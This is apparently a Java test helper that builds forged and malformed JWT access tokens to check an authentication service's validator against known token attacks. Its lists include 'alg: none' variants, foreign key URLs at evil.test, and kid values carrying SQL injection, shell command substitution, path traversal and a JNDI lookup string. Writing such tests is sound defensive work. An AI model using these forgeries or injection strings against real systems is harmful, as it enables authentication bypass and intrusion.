package florin.auth;

import static java.nio.charset.StandardCharsets.UTF_8;

import florin.core.SessionId;
import florin.core.UserId;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.time.Instant;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * Access tokens that are none, by what is wrong with them (RFC 8725, RFC 9068). Where only header
 * or payload is wrong they are signed with the right key: no luck with the signature hides what the
 * rest of the check lets pass.
 */
public record Forgeries(byte[] key, UserId user, SessionId session, Instant now) {
  private static final String DIGITS =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

  /** All of them. {@code good} is a real token, {@code refresh} a real refresh token. */
  public Map<String, String> all(String good, String refresh) {
    Map<String, String> all = new LinkedHashMap<>();
    headers().forEach(header -> all.put("header: " + header, signed(header, payload())));
    names().forEach(name -> all.put("kid: " + name, signed(named(name), payload())));
    payloads().forEach(payload -> all.put("payload: " + payload, signed(header(), payload)));
    spellings(good, all);
    otherKeys(all);
    nested(good, all);
    others(refresh, all);
    return all;
  }

  /** The header of a right one. */
  public String header() {
    return named("\"" + ownName() + "\"");
  }

  private static String named(String kid) {
    return "{\"alg\":\"HS256\",\"typ\":\"at+jwt\",\"kid\":" + kid + "}";
  }

  private String ownName() {
    return new TokenKeys(key, null).signing().id();
  }

  /** The name of the key a token says it was signed with. */
  public static String kid(String token) {
    byte[] header = Base64.getUrlDecoder().decode(token.substring(0, token.indexOf('.')));
    Matcher kid = Pattern.compile("\"kid\":\"([^\"]+)\"").matcher(new String(header, UTF_8));
    if (!kid.find()) {
      throw new AssertionError("no kid in " + token);
    }
    return kid.group(1);
  }

  private List<String> headers() {
    String kid = "\"kid\":\"" + ownName() + "\"";
    String rest = ",\"typ\":\"at+jwt\"," + kid + "}";
    String right = "{\"alg\":\"HS256\",\"typ\":\"at+jwt\"," + kid;
    return List.of(
        "{\"alg\":\"none\"" + rest,
        "{\"alg\":\"None\"" + rest,
        "{\"alg\":\"NONE\"" + rest,
        "{\"alg\":\"nOnE\"" + rest,
        "{\"alg\":\"HS384\"" + rest,
        "{\"alg\":\"HS512\"" + rest,
        "{\"alg\":\"HS1\"" + rest,
        "{\"alg\":\"HS256 \"" + rest,
        "{\"alg\":\"RS256\"" + rest,
        "{\"alg\":\"PS256\"" + rest,
        "{\"alg\":\"ES256\"" + rest,
        "{\"alg\":\"ES256K\"" + rest,
        "{\"alg\":\"EdDSA\"" + rest,
        "{\"alg\":\"dir\",\"enc\":\"A128GCM\"" + rest,
        "{\"alg\":\"A256KW\"" + rest,
        "{\"alg\":\"PBES2-HS256+A128KW\",\"p2c\":2000000000" + rest,
        "{\"alg\":\"hs256\"" + rest,
        "{\"alg\":\"\"" + rest,
        "{\"alg\":null" + rest,
        "{\"alg\":[\"HS256\"]" + rest,
        "{\"alg\":{\"a\":\"HS256\"}" + rest,
        "{\"alg\":256" + rest,
        "{\"ALG\":\"HS256\"" + rest,
        "{\"typ\":\"at+jwt\"," + kid + "}",
        "{\"alg\":\"HS256\"}",
        "{\"alg\":\"HS256\"," + kid + "}",
        "{\"alg\":\"HS256\",\"typ\":\"JWT\"," + kid + "}",
        "{\"alg\":\"HS256\",\"typ\":\"rt+jwt\"," + kid + "}",
        "{\"alg\":\"HS256\",\"typ\":\"application/at+jwt\"," + kid + "}",
        "{\"alg\":\"HS256\",\"typ\":\"AT+JWT\"," + kid + "}",
        "{\"alg\":\"HS256\",\"typ\":null," + kid + "}",
        "{\"alg\":\"HS256\",\"typ\":[\"at+jwt\"]," + kid + "}",
        "{\"alg\":\"HS256\",\"typ\":\"JWT\"" + rest,
        "{\"alg\":\"none\",\"alg\":\"HS256\"" + rest,
        "{\"alg\":\"HS256\",\"alg\":\"none\"" + rest,
        "{\"alg\":\"HS256\",\"\\u0061lg\":\"none\"" + rest,
        right + "," + kid + "}",
        right + ",\"kid\":\"other\"}",
        right + ",\"crit\":[\"exp\"]}",
        right + ",\"crit\":[]}",
        right + ",\"crit\":[\"b64\"],\"b64\":false}",
        right + ",\"crit\":\"exp\"}",
        right + ",\"jku\":\"https://evil.test/k\"}",
        right + ",\"jku\":\"file:///dev/null\"}",
        right + ",\"jwk\":{\"kty\":\"oct\",\"k\":\"AA\"}}",
        right + ",\"jwk\":null}",
        right + ",\"x5u\":\"https://evil.test/c\"}",
        right + ",\"x5c\":[\"MII\"]}",
        right + ",\"x5t\":\"AA\"}",
        right + ",\"x5t#S256\":\"AA\"}",
        right + ",\"cty\":\"JWT\"}",
        right + ",\"zip\":\"DEF\"}",
        right + ",\"b64\":false}",
        right + ",\"enc\":\"A256GCM\"}",
        right + ",\"url\":\"https://evil.test\"}",
        right + ",\"nonce\":\"1\"}",
        right + ",\"\":0}",
        right + "}{}",
        right + "},",
        right,
        "{'alg':'HS256','typ':'at+jwt'}",
        "{alg:HS256,typ:at+jwt}",
        "{\"alg\":\"HS256\",\"typ\":\"at+jwt\"/**/," + kid + "}",
        "[\"HS256\"]",
        "\"HS256\"",
        "",
        "null",
        "\uFEFF" + right + "}");
  }

  /** What a key is called by who hopes that it is looked up somewhere. */
  private List<String> names() {
    String own = ownName();
    return List.of(
        "\"\"",
        "\"0\"",
        "null",
        "0",
        "true",
        "[\"" + own + "\"]",
        "{\"a\":\"" + own + "\"}",
        "\"null\"",
        "\"" + own.toLowerCase(Locale.ROOT) + "\"",
        "\"" + own + " \"",
        "\" " + own + "\"",
        "\"" + own + "\\u0000\"",
        "\"" + own + "=\"",
        "\"" + own.substring(1) + "\"",
        "\""
            + new TokenKeys("another key of thirty-two bytes!!".getBytes(UTF_8), null)
                .signing()
                .id()
            + "\"",
        "\"../../../../dev/null\"",
        "\"/dev/null\"",
        "\"file:///dev/null\"",
        "\"..\\\\..\\\\windows\\\\win.ini\"",
        "\"https://evil.test/key\"",
        "\"' OR '1'='1\"",
        "\"x' UNION SELECT 'AAAA';--\"",
        "\"1; DROP TABLE session;--\"",
        "\"| /usr/bin/id\"",
        "\"$(id)\"",
        "\"${jndi:ldap://evil.test/a}\"",
        "\"%00\"",
        "\"" + "k".repeat(1_000) + "\"");
  }

  private List<String> payloads() {
    long second = now.getEpochSecond();
    String iat = "\"iat\":" + second;
    String exp = "\"exp\":" + (second + 900);
    String right = payload();
    List<String> payloads = new java.util.ArrayList<>();
    for (String claim : List.of("iss", "aud", "sub", "sid", "jti", "iat", "exp")) {
      String value = "\"" + claim + "\":(\\d+|\"[^\"]*\")";
      payloads.add(right.replaceFirst("\"" + claim + "\":", "\"x\":"));
      payloads.add(right.replaceFirst(value, "\"" + claim + "\":null"));
      payloads.add(right.replaceFirst(value, "\"" + claim + "\":{}"));
      payloads.add(right.replaceFirst(value, "\"" + claim + "\":[]"));
      payloads.add(right.replaceFirst(value, "\"" + claim + "\":true"));
      payloads.add(right.replaceFirst(value, "\"" + claim + "\":\"\""));
    }
    payloads.addAll(
        List.of(
            right.replace("\"iss\":\"florin\"", "\"iss\":\"other\""),
            right.replace("\"iss\":\"florin\"", "\"iss\":\"Florin\""),
            right.replace("\"iss\":\"florin\"", "\"iss\":[\"florin\"]"),
            right.replace("\"aud\":\"florin\"", "\"aud\":\"other\""),
            right.replace("\"aud\":\"florin\"", "\"aud\":[\"florin\",\"other\"]"),
            right.replace("\"aud\":\"florin\"", "\"aud\":[\"other\"]"),
            right.replace(user.toString(), session.toString()),
            right.replace(session.toString(), user.toString()),
            right.replace(user.toString(), "1"),
            right.replace(user.toString(), user.value().toString()),
            right.replace(user.toString(), user.toString().toUpperCase(Locale.ROOT)),
            right.replace(user.toString(), " " + user),
            right.replace(user.toString(), user + "\\u0000"),
            right.replace(session.toString(), "ses_"),
            right.replace(session.toString(), session.toString().replace("ses_", "ses-")),
            right.replace("\"jti\":\"j\"", "\"jti\":7"),
            right.replace(exp, "\"exp\":" + (second - 1)),
            right.replace(exp, "\"exp\":" + (second - 86_400)),
            right.replace(exp, "\"exp\":0"),
            right.replace(exp, "\"exp\":" + (second + 901)),
            right.replace(exp, "\"exp\":" + (second + 31_536_000)),
            right.replace(exp, "\"exp\":" + Long.MAX_VALUE),
            right.replace(exp, "\"exp\":" + Long.MIN_VALUE),
            right.replace(exp, "\"exp\":1e400"),
            right.replace(exp, "\"exp\":9" + "9".repeat(200)),
            right.replace(exp, "\"exp\":-1"),
            right.replace(exp, "\"exp\":NaN"),
            right.replace(exp, "\"exp\":\"" + (second + 900) + "\""),
            right.replace(exp, "\"EXP\":" + (second + 900)),
            right.replace(iat, "\"iat\":" + (second + 120)),
            right.replace(iat, "\"iat\":\"yesterday\""),
            right.replace(iat, "\"iat\":" + (second - 86_400)),
            right.replace(iat, iat + ",\"nbf\":" + (second + 120)),
            right.replace(iat, iat + ",\"nbf\":\"now\""),
            right.replace(exp, exp + ",\"sub\":\"" + user + "\""),
            right.replace(exp, exp + ",\"sub\":\"" + new UserId(UUID.randomUUID()) + "\""),
            right.replace(exp, exp + ",\"sid\":\"" + session + "\""),
            right.replace(exp, exp + ",\"aud\":\"florin\""),
            right.replace(exp, exp + ",\"\\u0065xp\":" + (second + 800)),
            right.replace(exp, exp + ",\"exp\":" + (second + 800)),
            right.replace(exp, exp + ",\"more\":{\"a\":1,\"a\":2}"),
            right.replace(exp, exp + ",\"more\":" + "[".repeat(5_000)),
            right + "{}",
            right + " x",
            right.substring(0, right.length() - 1),
            "[" + right + "]",
            "[]",
            "{}",
            "null",
            ""));
    return payloads;
  }

  private void spellings(String good, Map<String, String> all) {
    String[] parts = good.split("\\.", -1);
    String two = parts[0] + "." + parts[1] + ".";
    char last = good.charAt(good.length() - 1);
    String before = good.substring(0, good.length() - 1);
    for (int bits : new int[] {1, 2, 3}) {
      char twin = DIGITS.charAt(DIGITS.indexOf(last) ^ bits);
      all.put("spelling: last character differs by bits " + bits, before + twin);
    }
    List<String> others =
        List.of(
            good + "=",
            good + "==",
            parts[0] + "=." + parts[1] + "." + parts[2],
            parts[0] + "." + parts[1] + "=." + parts[2],
            two,
            parts[0] + "." + parts[1],
            parts[0],
            parts[0] + "..",
            parts[0] + ".." + parts[2],
            "." + parts[1] + "." + parts[2],
            parts[1] + "." + parts[0] + "." + parts[2],
            parts[0] + "." + parts[0] + "." + parts[2],
            "..",
            ".",
            "",
            good + ".",
            good + "." + parts[2],
            good + "." + parts[1] + "." + parts[2],
            "." + good,
            good + good,
            good + "," + good,
            " " + good,
            good + " ",
            good + "\n",
            good + "\r\nX-Role: operator",
            "\t" + good,
            parts[0] + " ." + parts[1] + "." + parts[2],
            parts[0] + "%2e" + parts[1] + "%2e" + parts[2],
            good.substring(0, good.length() - 2),
            good + "AA",
            good + "!",
            good.substring(1),
            "\"" + good + "\"",
            "Bearer " + good,
            good.replace('-', '+').replace('_', '/') + "+",
            good.toUpperCase(Locale.ROOT),
            good.toLowerCase(Locale.ROOT),
            new StringBuilder(good).reverse().toString(),
            good + "\u0000",
            "é." + parts[1] + "." + parts[2],
            "\u200b" + good,
            parts[0] + "\uff0e" + parts[1] + "\uff0e" + parts[2],
            "x".repeat(3_000),
            "x".repeat(6_000),
            (parts[0] + ".").repeat(200),
            "%" + good,
            "null",
            "undefined",
            "[object Object]");
    for (int i = 0; i < others.size(); i++) {
      all.put("spelling: " + i + " " + shortened(others.get(i)), others.get(i));
    }
  }

  private void otherKeys(Map<String, String> all) {
    String unsigned = unsigned(header(), payload());
    String secret = new String(key, UTF_8);
    for (String other :
        List.of(
            "\u0000",
            "a",
            "secret",
            "florin",
            "changeit",
            secret + "x",
            secret.substring(1),
            secret.toUpperCase(Locale.ROOT) + "!",
            base64(key),
            ownName())) {
      String signature = base64(hmac("HmacSHA256", other.getBytes(UTF_8), unsigned));
      all.put("key: " + shortened(other), unsigned + "." + signature);
    }
    all.put("key: 32 zeros", unsigned + "." + base64(new byte[32]));
    all.put("key: payload alone signed", unsigned + "." + ofPayloadAlone());
    for (String longer : List.of("384", "512")) {
      String header = header().replace("HS256", "HS" + longer);
      byte[] mac = hmac("HmacSHA" + longer, key, unsigned(header, payload()));
      all.put("key: ours with SHA-" + longer, unsigned(header, payload()) + "." + base64(mac));
      byte[] cut = java.util.Arrays.copyOf(mac, 32);
      all.put("key: ours with SHA-" + longer + ", cut", unsigned + "." + base64(cut));
    }
    all.put("key: RSA", rsa());
  }

  private String ofPayloadAlone() {
    return base64(hmac("HmacSHA256", key, base64(payload().getBytes(UTF_8))));
  }

  private String rsa() {
    try {
      KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
      generator.initialize(2_048);
      KeyPair pair = generator.generateKeyPair();
      String unsigned = unsigned(header().replace("HS256", "RS256"), payload());
      Signature signature = Signature.getInstance("SHA256withRSA");
      signature.initSign(pair.getPrivate());
      signature.update(unsigned.getBytes(UTF_8));
      return unsigned + "." + base64(signature.sign());
    } catch (GeneralSecurityException impossible) {
      throw new AssertionError(impossible);
    }
  }

  private void nested(String good, Map<String, String> all) {
    all.put("nested: a token as payload", signed(header(), good));
    all.put("nested: a token as a text", signed(header(), "\"" + good + "\""));
    all.put("nested: a token as a claim", signed(header(), "{\"jwt\":\"" + good + "\"}"));
    all.put(
        "nested: and says so",
        signed(header().replace("\"kid\"", "\"cty\":\"JWT\",\"kid\""), good));
    all.put("nested: a token as signature", unsigned(header(), payload()) + "." + base64(good));
    all.put("nested: five parts of JWE", good + ".AA.AA");
    all.put("nested: JSON serialization", "{\"payload\":\"" + good.split("\\.", -1)[1] + "\"}");
  }

  private void others(String refresh, Map<String, String> all) {
    all.put("other: a refresh token", refresh);
    all.put("other: a refresh token in three parts", refresh + "." + refresh + "." + refresh);
    all.put("other: a session's id", session.toString());
    all.put("other: a user's id", user.toString());
    all.put("other: an API key that is none", "florin_sk_" + "0".repeat(72));
    all.put("other: an API key cut short", "florin_sk_");
    all.put("other: basic", "YWxpY2U6cGFzc3dvcmQ=");
  }

  /** The claims of a right one. */
  public String payload() {
    return String.format(
        Locale.ROOT,
        "{\"iss\":\"florin\",\"aud\":\"florin\",\"sub\":\"%s\",\"sid\":\"%s\",\"jti\":\"j\","
            + "\"iat\":%d,\"exp\":%d}",
        user,
        session,
        now.getEpochSecond(),
        now.getEpochSecond() + 900);
  }

  /** Signed with the key, whatever it says. */
  public String signed(String header, String payload) {
    String unsigned = unsigned(header, payload);
    return unsigned + "." + base64(hmac("HmacSHA256", key, unsigned));
  }

  private static String unsigned(String header, String payload) {
    return base64(header.getBytes(UTF_8)) + "." + base64(payload.getBytes(UTF_8));
  }

  private static byte[] hmac(String algorithm, byte[] key, String text) {
    try {
      Mac mac = Mac.getInstance(algorithm);
      mac.init(new SecretKeySpec(key, algorithm));
      return mac.doFinal(text.getBytes(UTF_8));
    } catch (GeneralSecurityException impossible) {
      throw new AssertionError(impossible);
    }
  }

  private static String base64(String text) {
    return base64(text.getBytes(UTF_8));
  }

  private static String base64(byte[] bytes) {
    return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
  }

  private static String shortened(String text) {
    String shown = text.replaceAll("[^ -~]", "?");
    return shown.length() > 60 ? shown.substring(0, 60) + "…" : shown;
  }
}
